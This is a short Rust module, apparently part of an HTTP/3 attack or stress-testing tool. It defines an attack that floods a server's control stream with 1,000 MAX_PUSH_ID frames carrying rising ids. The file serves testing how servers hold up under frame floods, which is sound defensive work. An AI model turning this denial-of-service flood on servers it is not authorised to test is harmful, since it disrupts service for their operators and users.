//! MAX_PUSH_ID frames, each with a larger id.

use crate::attacker::{Attack, Attacker};
use crate::flood;
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("max_push_ids", "MAX_PUSH_ID frames", run);

fn run(a: &mut Attacker) {
    let frames = (0..1_000)
        .map(|n| wire::frame(0x0d, &wire::varint(n)))
        .collect::<Vec<_>>()
        .concat();
    flood::control(a, &frames, 1_000);
}
